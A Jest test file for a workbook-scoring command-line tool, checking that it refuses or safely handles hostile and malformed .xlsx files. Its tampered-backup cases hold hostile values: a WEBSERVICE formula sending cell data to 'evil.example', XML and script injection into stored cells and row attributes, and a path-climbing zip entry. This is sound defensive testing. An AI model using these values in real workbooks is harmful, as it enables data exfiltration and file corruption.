// Hostile and unusual workbooks (issue 20), one test per case: the corpus made at test time by real
// writers and by hand (test/support/hostile.ts), each file scored and restored by the command line,
// and the exact behaviour asserted — scored as a person would want, or refused with a message naming
// what is wrong; never a crash, a corrupt file or a hang.
import { execFileSync } from 'child_process';
import { promises as fs } from 'fs';
import path from 'path';
import { unzipSync } from 'fflate';
import { BACKUP_SHEET } from '../../src/core';
import { declaredUnpackedSize } from '../../src/xlsx';
import { cpuMsSince, json, runInProcess } from './support/cli';
import type { Run } from './support/cli';
import { everyCell, hostilePython, makeHostileCorpus, rezipped, unzipped } from '../support/hostile';
import { malformedParts } from '../support/wellFormed';
import { tempDir } from '../fixtures/xlsx';
import type { JsonFile } from '../../src/cli/json';

jest.setTimeout(120_000);

const run = hostilePython() ? describe : describe.skip;
let dir: string;
let corpus: string;
beforeAll(async () => {
  dir = await tempDir('jixiao-hostile-');
  corpus = path.join(dir, 'corpus');
  await makeHostileCorpus(corpus);
});

const input = (name: string) => path.join(corpus, name);

/** Scores one file in process into a folder of its own; its JSON's first file, and the run. */
async function score(name: string, ...args: string[]): Promise<{ run: Run; file: JsonFile; out: string }> {
  const out = path.join(dir, 'out', `${name}-${args.join('')}`);
  const r = await runInProcess([input(name), '--out', out, '--json', ...args]);
  return { run: r, file: json(r).files[0], out };
}

/** Restores a scored file (a copy of it, in a folder of its own); the run and the restored file. */
async function restore(scored: string, label: string): Promise<{ run: Run; restored: string }> {
  const folder = path.join(dir, 'restore', label);
  await fs.mkdir(folder, { recursive: true });
  const copy = path.join(folder, path.basename(scored));
  await fs.copyFile(scored, copy);
  const r = await runInProcess(['restore', copy]);
  return { run: r, restored: copy.replace(/\.scored\.(xlsx|xlsm)$/, '.restored.$1') };
}

const entries = async (file: string) => Object.keys(unzipSync(await fs.readFile(file)));
const part = async (file: string, name: string) => Buffer.from(unzipSync(await fs.readFile(file))[name]).toString('utf8');

run('every file of the corpus', () => {
  it('that is scored is written, scored and restored, with every part well formed (namespaces included)', async () => {
    const checked: string[] = [];
    for (const name of (await fs.readdir(corpus)).filter((n) => n.endsWith('.xlsx')).sort()) {
      const { file } = await score(name);
      if (!file.output) continue;
      expect({ name, parts: malformedParts(await fs.readFile(file.output)) }).toEqual({ name, parts: [] });
      const { run: back, restored } = await restore(file.output, `well-formed-${name}`);
      expect({ name, code: back.code }).toEqual({ name, code: 0 });
      expect({ name, parts: malformedParts(await fs.readFile(restored)) }).toEqual({ name, parts: [] });
      checked.push(name);
    }
    expect(checked.length).toBeGreaterThanOrEqual(16);
  });
});

run('0: openpyxl declares xmlns:r on each <sheet>', () => {
  it('scores it into a file whose every part parses namespace-aware, and openpyxl opens the scored and restored files, backup sheet very hidden', async () => {
    expect((await part(input('op-table.xlsx'), 'xl/workbook.xml')).match(/<sheet xmlns:r=/g)).toHaveLength(2);
    const { run: r, file } = await score('op-table.xlsx');
    expect([r.code, file.total]).toEqual([0, 18.25]);
    expect(malformedParts(await fs.readFile(file.output!))).toEqual([]);
    const { restored } = await restore(file.output!, 'case0');
    expect(malformedParts(await fs.readFile(restored))).toEqual([]);
    const states = (f: string) =>
      execFileSync(hostilePython()!, ['-c', 'import sys, openpyxl; print([(ws.title, ws.sheet_state) for ws in openpyxl.load_workbook(sys.argv[1]).worksheets])', f], { encoding: 'utf8' }).trim();
    expect(states(file.output!)).toBe(`[('指标体系', 'visible'), ('基础数据', 'visible'), ('评价结论', 'visible'), ('${BACKUP_SHEET}', 'veryHidden')]`);
    expect(states(restored)).toBe("[('指标体系', 'visible'), ('基础数据', 'visible')]");
  });
});

run('1: sheets that are not worksheets, parts without their lists, malformed parts', () => {
  it.each(['op-chartsheet.xlsx', 'dialogsheet.xlsx', 'no-sheetdata.xlsx'])('%s: the other tabs are skipped, the indicator sheet scored, every part written well formed', async (name) => {
    const { run: r, file } = await score(name);
    expect([r.code, file.sheet, file.total, r.stderr]).toEqual([0, '指标体系', 18.25, '']);
    expect(malformedParts(await fs.readFile(file.output!))).toEqual([]);
  });

  it('a chart sheet first among the tabs: the print titles name the indicator sheet by its place among all tabs (localSheetId 1)', async () => {
    const { file } = await score('op-chartsheet.xlsx');
    expect(await part(file.output!, 'xl/workbook.xml')).toContain(`<definedName name="_xlnm.Print_Titles" localSheetId="1">'指标体系'!$1:$2</definedName>`);
    expect(await part(file.output!, 'xl/chartsheets/sheet1.xml')).toBe(await part(input('op-chartsheet.xlsx'), 'xl/chartsheets/sheet1.xml'));
  });

  it.each(['styles-without-lists.xlsx', 'fills-count-0.xlsx'])('%s: scored; the fills it gets keep Excel’s reserved none and gray125 first, and cell format 0 is Excel’s default', async (name) => {
    const { run: r, file } = await score(name);
    expect([r.code, file.total]).toEqual([0, 18.25]);
    const styles = await part(file.output!, 'xl/styles.xml');
    expect(styles).toMatch(/<fills count="\d+"><fill><patternFill patternType="none"\/><\/fill><fill><patternFill patternType="gray125"\/><\/fill><fill><patternFill patternType="gray0625">/);
    if (name === 'styles-without-lists.xlsx') expect(styles).toMatch(/<cellXfs count="\d+"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"\/>/);
    expect(malformedParts(await fs.readFile(file.output!))).toEqual([]);
  });

  it('a malformed part is that file’s error, naming the part; in a folder the rest are scored, 汇总 written, --json one document', async () => {
    const alone = await score('malformed-part.xlsx');
    expect(alone.run.code).toBe(2);
    expect(alone.run.stderr).toContain('malformed-part.xlsx：.xlsx 文件已损坏，无法读取');
    expect(alone.run.stderr).toContain('unclosed tag');
    expect(alone.file).toMatchObject({ output: null, total: null, issues: [{ severity: 'error', code: 'unreadable-file' }] });
    const folder = path.join(dir, 'folder-malformed');
    await fs.mkdir(folder);
    for (const f of ['malformed-part.xlsx', 'op-chartsheet.xlsx', 'xw-base.xlsx']) await fs.copyFile(input(f), path.join(folder, f));
    const r = await runInProcess([folder, '--json']);
    expect(r.code).toBe(2);
    const doc = json(r);
    expect(doc.files.map((f) => [path.basename(f.file), f.total])).toEqual([
      ['malformed-part.xlsx', null],
      ['op-chartsheet.xlsx', 18.25],
      ['xw-base.xlsx', 18.25],
    ]);
    expect(doc.summary).toBe(path.join(folder, '汇总.xlsx'));
    expect((await fs.readdir(folder)).sort()).toEqual(['malformed-part.xlsx', 'op-chartsheet.scored.xlsx', 'op-chartsheet.xlsx', 'xw-base.scored.xlsx', 'xw-base.xlsx', '汇总.xlsx']);
  });
});

run('2: restore after another program saved the scored file', () => {
  /** The file loaded and saved again by openpyxl, which renumbers shared strings and cell formats. */
  const resaved = (from: string, to: string) =>
    execFileSync(hostilePython()!, ['-c', 'import sys, openpyxl; wb = openpyxl.load_workbook(sys.argv[1]); wb.save(sys.argv[2])', from, to]);

  it.each(['xw-base.xlsx', 'op-table.xlsx', 'xw-merged-score.xlsx'])('%s: scored, saved by openpyxl, restored: every cell as openpyxl saves the original; no stored cell pasted with stale numbers', async (name) => {
    const { file } = await score(name);
    const folder = path.join(dir, 'openpyxl', name);
    await fs.mkdir(folder, { recursive: true });
    const scored = path.join(folder, 'x.scored.xlsx');
    resaved(file.output!, scored);
    resaved(input(name), path.join(folder, 'original.xlsx'));
    // Its numbering is not ours any more: the backup's digests say so.
    expect(await part(scored, 'xl/styles.xml')).not.toBe(await part(file.output!, 'xl/styles.xml'));
    const r = await runInProcess(['restore', scored]);
    expect([r.code, r.stderr]).toEqual([0, '']);
    const cells = await everyCell(path.join(folder, 'x.restored.xlsx'));
    expect(cells).toEqual(await everyCell(path.join(folder, 'original.xlsx')));
  });
});

run('3: the guard counts what the reader reads, wherever it is stored and however it is written', () => {
  it.each([
    ['prefixed-merges.xlsx', '工作表“指标体系”的合并区域共覆盖 1,048,576 个单元格（最大的是 U1:U1048576），超过上限 500,000 个'],
    ['tab-merge.xlsx', '（最大的是 A9:XFD1048576），超过上限 500,000 个'],
    ['prefixed-cells.xlsx', '工作簿的单元格数（读到工作表“基础数据”时）超过上限 200,000 个'],
    ['sheet-elsewhere.xlsx', '工作表“基础数据”的行数超过上限 20,000 行'],
  ])('%s is refused: %s', async (name, words) => {
    const started = process.cpuUsage();
    const { run: r, file } = await score(name);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(words);
    expect(file).toMatchObject({ output: null, issues: [{ code: 'unreadable-file' }] });
    // Processor time: what refusing it cost, however busy the machine is.
    expect(cpuMsSince(started)).toBeLessThan(30_000);
  });
});

run('6: a person’s own sheet under the backup sheet’s name', () => {
  it('is never written over: scoring refuses, saying so, and writes nothing; restore finds no backup and removes nothing', async () => {
    const { run: r, file, out } = await score('xw-own-backup-name.xlsx');
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('工作簿中已有一个名为“绩效评分助手_备份”的工作表，它不是本程序的备份');
    expect(file.output).toBeNull();
    await expect(fs.readdir(out)).resolves.toEqual([]);
    const back = await runInProcess(['restore', input('xw-own-backup-name.xlsx'), '--out', out]);
    expect(back.code).toBe(2);
    expect(back.stderr).toContain('没有评分备份');
    await expect(fs.readdir(out)).resolves.toEqual([]);
  });
});

run('7: zip entries that are not a package’s parts', () => {
  it.each([
    ['duplicate-entry.xlsx', '文件内有两个同名的部件“xl/worksheets/sheet1.xml”'],
    ['case-duplicate-entry.xlsx', '文件内有两个同名的部件“xl/worksheets/Sheet1.xml”'],
    ['climbing-entry.xlsx', '文件内有名称不安全的部件“../../evil.txt”'],
  ])('%s is refused, naming the entry', async (name, words) => {
    const { run: r, file } = await score(name);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(words);
    expect(file.output).toBeNull();
  });

  it('an entry with an absolute name is read as the package part it names, and written without its leading slash', async () => {
    const { run: r, file } = await score('absolute-entry.xlsx');
    expect([r.code, file.total]).toEqual([0, 18.25]);
    const names = await entries(file.output!);
    expect(names).toContain('tmp/evil.txt');
    expect(names.filter((n) => n.startsWith('/') || n.includes('..'))).toEqual([]);
  });
});

run('8: a FIFO under a workbook’s name', () => {
  it('is refused at once, by score and by restore, and sizing the folder does not wait on it', async () => {
    const fifo = path.join(dir, 'f.xlsx');
    execFileSync('mkfifo', [fifo]);
    const started = Date.now();
    const r = await runInProcess([fifo, '--json']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('f.xlsx：不是普通文件');
    const back = await runInProcess(['restore', fifo]);
    expect(back.code).toBe(2);
    expect(back.stderr).toContain('不是普通文件');
    await expect(declaredUnpackedSize(fifo)).resolves.toBe(0);
    expect(Date.now() - started).toBeLessThan(10_000);
    expect((await fs.lstat(fifo)).isFIFO()).toBe(true);
  });
});

run('11: parts Excel opens that other readers refuse', () => {
  it.each(['utf16-parts.xlsx', 'encoded-targets.xlsx', 'no-styles.xlsx', 'leading-slash.xlsx'])('%s is scored (18.25) and written well formed', async (name) => {
    const { run: r, file } = await score(name);
    expect([r.code, file.total, file.grade]).toEqual([0, 18.25, '优']);
    expect(malformedParts(await fs.readFile(file.output!))).toEqual([]);
    const { run: back, restored } = await restore(file.output!, name);
    expect(back.code).toBe(0);
    expect(await everyCell(restored)).toEqual(await everyCell(input(name)));
  });

  it('a UTF-16 part changed is written back in UTF-16, its byte-order mark first, as its declaration says', async () => {
    const { file } = await score('utf16-parts.xlsx');
    const sheet = Buffer.from(unzipSync(await fs.readFile(file.output!))['xl/worksheets/sheet1.xml']);
    expect([...sheet.subarray(0, 2)]).toEqual([0xff, 0xfe]);
    expect(sheet.subarray(2).toString('utf16le')).toMatch(/^<\?xml version="1.0" encoding="UTF-16"/);
  });

  it('a part named by a percent-encoded target keeps its name; a package without a style sheet gets one, named in its relationships and content types', async () => {
    const encoded = (await score('encoded-targets.xlsx')).file;
    expect(await entries(encoded.output!)).toContain('xl/worksheets/指标 体系.xml');
    const bare = (await score('no-styles.xlsx')).file;
    expect(await part(bare.output!, 'xl/_rels/workbook.xml.rels')).toContain('relationships/styles" Target="styles.xml"/>');
    expect(await part(bare.output!, '[Content_Types].xml')).toContain('<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>');
  });

  it('entries written with a leading slash are read, and written without it', async () => {
    expect((await entries(input('leading-slash.xlsx'))).every((n) => n.startsWith('/'))).toBe(true);
    const { file } = await score('leading-slash.xlsx');
    expect((await entries(file.output!)).filter((n) => n.startsWith('/'))).toEqual([]);
  });
});

run('12: smaller cases', () => {
  it('a note past Excel’s 32,767 characters is cut there, the person’s part whole and ours ending …（全文见扣分明细）', async () => {
    const { run: r, file } = await score('xw-long-note.xlsx');
    expect(r.code).toBe(0);
    const note = (await everyCell(file.output!))['指标体系'].G3 as { note: string };
    expect(note.note).toHaveLength(32_767);
    expect(note.note.startsWith(`复核意见：${'核对无误。'.repeat(6539)}`)).toBe(true);
    expect(note.note.endsWith('…（全文见扣分明细）')).toBe(true);
    expect(file.rows[0].explanation).toContain('4.75');
  });

  it('a 得分 merged over an indicator written on two rows gets its score in the merged cell; one shared by two indicators is not written, and said', async () => {
    const { run: r, file } = await score('xw-merged-score.xlsx');
    expect(r.code).toBe(0);
    expect(file.rows.map((row) => [row.cell, row.score])).toEqual([
      ['G3', 4.75],
      ['G4', 5],
      ['G5', 4.5],
      ['G7', 4],
      ['G8', 5],
      ['G9', 4],
    ]);
    const cells = (await everyCell(file.output!))['指标体系'];
    expect((cells.G5 as { value: unknown }).value).toBe(4.5);
    expect(cells.G6).toBeUndefined();
    expect(cells.G9).toBeUndefined();
    expect(file.issues).toContainEqual(expect.objectContaining({ severity: 'warning', cell: 'G9', code: 'score-under-merged-cell' }));
    expect(r.stderr).toContain('G9 在合并区域 G8:G9 之内');
  });

  it('a protected sheet in a structure-protected workbook is scored into its copy, with a warning for each (as README says)', async () => {
    const { run: r, file } = await score('op-protected.xlsx');
    expect([r.code, file.total]).toEqual([0, 18.25]);
    expect(file.issues.filter((i) => i.code.endsWith('-protected')).map((i) => i.code)).toEqual(['sheet-protected', 'workbook-protected']);
    expect(await part(file.output!, 'xl/worksheets/sheet1.xml')).toContain('<sheetProtection');
  });

  it('restore takes away the notes part and drawing scoring added, leaving the package’s parts as they were', async () => {
    const { file } = await score('xw-base.xlsx');
    expect((await entries(file.output!)).filter((n) => /comments|vmlDrawing/.test(n))).toHaveLength(2);
    const { restored } = await restore(file.output!, 'no-empty-notes');
    expect((await entries(restored)).sort()).toEqual((await entries(input('xw-base.xlsx'))).sort());
    expect(await part(restored, 'xl/worksheets/sheet1.xml')).not.toContain('legacyDrawing');
  });
});

run('10: a file name near the file system’s limit', () => {
  it('a 245-byte name is scored and restored: the outputs’ names are cut, by whole characters, to 255 bytes', async () => {
    const folder = path.join(dir, 'long-name');
    await fs.mkdir(folder);
    const stem = `${'绩效'.repeat(40)}abcde`;
    expect(Buffer.byteLength(stem)).toBe(245);
    await fs.copyFile(input('xw-base.xlsx'), path.join(folder, `${stem}.xlsx`));
    const r = await runInProcess([path.join(folder, `${stem}.xlsx`), '--json']);
    expect(r.code).toBe(0);
    const output = json(r).files[0].output!;
    expect(path.basename(output)).toBe(`${'绩效'.repeat(40)}abc.scored.xlsx`);
    expect(Buffer.byteLength(path.basename(output))).toBe(255);
    const back = await runInProcess(['restore', output]);
    expect(back.code).toBe(0);
    const restored = (await fs.readdir(folder)).find((n) => n.includes('.restored.'))!;
    expect(Buffer.byteLength(restored)).toBeLessThanOrEqual(255);
    expect(await everyCell(path.join(folder, restored))).toEqual(await everyCell(input('xw-base.xlsx')));
    expect((await fs.readdir(folder)).filter((n) => n.endsWith('.tmp'))).toEqual([]);
  });
});

run('12: scoring a numbered scored file again', () => {
  it('x-2.scored.xlsx continues its family as x-3.scored.xlsx, not x-2-2.scored.xlsx', async () => {
    const folder = path.join(dir, 'numbered');
    await fs.mkdir(folder);
    const first = (await score('xw-base.xlsx')).file.output!;
    await fs.copyFile(first, path.join(folder, 'x-2.scored.xlsx'));
    const r = await runInProcess([path.join(folder, 'x-2.scored.xlsx'), '--json']);
    expect(r.code).toBe(0);
    expect(path.basename(json(r).files[0].output!)).toBe('x-3.scored.xlsx');
    expect((await fs.readdir(folder)).sort()).toEqual(['x-2.scored.xlsx', 'x-3.scored.xlsx']);
  });
});

run('5: an array formula over 得分', () => {
  it('its cells read as formula cells: kept, with the formula warning, unless overwriting formulas is asked', async () => {
    const { run: r, file } = await score('xw-array.xlsx');
    expect(r.code).toBe(0);
    expect(file.issues.filter((i) => i.code === 'formula-in-score').map((i) => i.cell)).toEqual(['G3', 'G4', 'G5', 'G6']);
    const cells = (await everyCell(file.output!))['指标体系'];
    const was = (await everyCell(input('xw-array.xlsx')))['指标体系'];
    for (const c of ['G3', 'G4', 'G5', 'G6']) expect((cells[c] as { value: unknown }).value).toBe((was[c] as { value: unknown }).value);
  });

  it('asked to overwrite formulas, the array stays whole: nothing written into it, and each cell said', async () => {
    const { run: r, file } = await score('xw-array.xlsx', '--overwrite-formulas');
    expect(r.code).toBe(0);
    expect(file.issues.filter((i) => i.code === 'score-in-array-formula').map((i) => i.cell)).toEqual(['G3', 'G4', 'G5', 'G6']);
    const sheet = await part(file.output!, 'xl/worksheets/sheet1.xml');
    expect(sheet).toContain('<f t="array" ref="G3:G6">D3:D6*1</f>');
    const cells = (await everyCell(file.output!))['指标体系'];
    expect(['G3', 'G4', 'G5', 'G6'].map((c) => (cells[c] as { formula: unknown }).formula)).toEqual(['=D3:D6*1', '=D3:D6*1', '=D3:D6*1', '=D3:D6*1']);
  });
});

/** The scored base with its backup's JSON changed (the sheet's one chunk read, edited, written back). */
async function tampered(scored: string, edit: (store: { backups: { entries: Record<string, unknown>[] }[] }) => void): Promise<string> {
  const parts = unzipped(await fs.readFile(scored));
  const [name, xml] = [...parts].find(([, data]) => data.toString('utf8').includes('{&quot;version&quot;:1') || data.toString('utf8').includes('{"version":1'))!;
  const text = xml.toString('utf8');
  const at = /<t xml:space="preserve">(.*?)<\/t>/s.exec(text)!;
  const unescape = (s: string) => s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&').replace(/\\u005fx/g, '_x');
  const store = JSON.parse(unescape(at[1]));
  edit(store);
  const escaped = JSON.stringify(store).replace(/_x/g, '\\u005fx').replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
  parts.set(name, Buffer.from(text.replace(at[1], () => escaped)));
  const file = scored.replace('.scored.', `.tampered-${Math.random().toString(36).slice(2, 8)}.scored.`);
  await fs.writeFile(file, rezipped(parts));
  return file;
}

/** The backup's first record with framed cells (and, given, heights to match) as given, in its print setup's stored XML. */
function framedCells(store: unknown, framed: object | undefined, heights?: readonly object[]): void {
  const backup = (store as { backups: { print?: { xlsx?: object } }[] }).backups[0];
  backup.print = { ...backup.print, xlsx: { ...backup.print?.xlsx, ...(framed ? { framed } : {}), ...(heights ? { heights } : {}) } };
}

/** The backup's first record with raised rows as given, in its print setup's stored XML. */
function raisedRows(store: unknown, rows: readonly object[]): void {
  const backup = (store as { backups: { print?: { xlsx?: object } }[] }).backups[0];
  backup.print = { ...backup.print, xlsx: { ...backup.print?.xlsx, rows } };
}

run('4: a backup edited by hand', () => {
  let scored: string;
  beforeAll(async () => {
    scored = (await score('xw-base.xlsx')).file.output!;
  });

  const G3 = (store: { backups: { entries: Record<string, unknown>[] }[] }) => store.backups[0].entries.find((e) => e.row === 2 && e.col === 6)! as { xlsx: { cell: string; comment: string | null }; original: { formula: string | null } };

  it.each([
    ['a second sheetData in a stored cell', (s: never) => void (G3(s).xlsx.cell = '<c r="G3"><v>5</v></c></row></sheetData><sheetData><row r="1"><c r="A1"><v>1</v></c>'), '（工作表“指标体系” G3：stored XML is not'],
    ['a WEBSERVICE formula put into a stored cell', (s: never) => void (G3(s).xlsx.cell = '<c r="G3"><f>WEBSERVICE("http://evil.example/?"&amp;A1)</f><v>5</v></c>'), 'stored cell does not hold what the backup says'],
    ['a formula scoring never writes', (s: never) => void Object.assign((G3(s) as unknown as { written: object }).written, { formula: '=WEBSERVICE("http://evil.example/")' }), 'a formula scoring never writes'],
    ['a malformed note', (s: never) => void (G3(s).xlsx.comment = '<comment ref="G3" authorId="0"><text><r><t>x</t></r></text>'), 'stored XML is not well formed'],
    ['a cell at row 5,000,000, column 70,000', (s: never) => void (s as { backups: { entries: unknown[] }[] }).backups[0].entries.push({ row: 4_999_999, col: 69_999, original: G3(s).original, written: G3(s).original }), 'a record names no cell of the sheet'],
    ['two records for one cell', (s: never) => void (s as { backups: { entries: unknown[] }[] }).backups[0].entries.push(G3(s)), 'two records for one cell'],
    ['a row’s start tag that closes the row and opens another', (s: never) => void raisedRows(s, [{ row: 3, original: '<row r="4"></row><row r="5">', ht: '30' }]), 'a raised row’s stored tag is not a start tag'],
    ['another row’s start tag', (s: never) => void raisedRows(s, [{ row: 3, original: '<row r="9" ht="15">', ht: '30' }]), 'a raised row’s stored tag is not that row’s'],
    ['a height that is a script', (s: never) => void raisedRows(s, [{ row: 3, original: '<row r="4">', ht: '30"><script/>' }]), 'a raised row’s height is not a height'],
    ['heights to match that name another row', (s: never) => void framedCells(s, undefined, [{ row: 3, original: '<row r="9" ht="15">', ht: '30' }]), 'a raised row’s stored tag is not that row’s'],
    ['a framed cell whose format is a script', (s: never) => void framedCells(s, { col: 8, cells: [{ row: 4, s: '1"/><script/>' }] }), 'a framed cell names no cell of the sheet'],
    ['framed cells in no column', (s: never) => void framedCells(s, { col: -1, cells: [] }), 'framed cells are not a column’s'],
  ])('%s: restore refuses, naming it, and writes nothing; scoring it again refuses too', async (_, edit, words) => {
    const file = await tampered(scored, edit as (s: unknown) => void);
    const { run: r, restored } = await restore(file, path.basename(file, '.xlsx'));
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('隐藏的备份表“绩效评分助手_备份”内容不完整或被改动过');
    expect(r.stderr).toContain(words);
    await expect(fs.access(restored)).rejects.toThrow();
    const again = await runInProcess([file, '--out', path.join(dir, 'rescore-tampered'), '--json']);
    expect(again.code).toBe(2);
    expect(again.stderr).toContain('被改动过');
  });

  it('a backup far larger than scoring writes (2,100,001 records) is refused unparsed, by score and by restore, naming it; nothing written', async () => {
    const { run: r, file, out } = await score('huge-backup.xlsx');
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('隐藏的备份表“绩效评分助手_备份”内容不完整或被改动过（the backup holds more than scoring ever writes）');
    expect(file.output).toBeNull();
    const back = await runInProcess(['restore', input('huge-backup.xlsx'), '--out', out]);
    expect(back.code).toBe(2);
    expect(back.stderr).toContain('（the backup holds more than scoring ever writes）');
    await expect(fs.readdir(out)).resolves.toEqual([]);
  });

  it('restoring the untouched file gives back every cell', async () => {
    const { run: r, restored } = await restore(scored, 'untouched');
    expect(r.code).toBe(0);
    expect(await everyCell(restored)).toEqual(await everyCell(input('xw-base.xlsx')));
  });
});

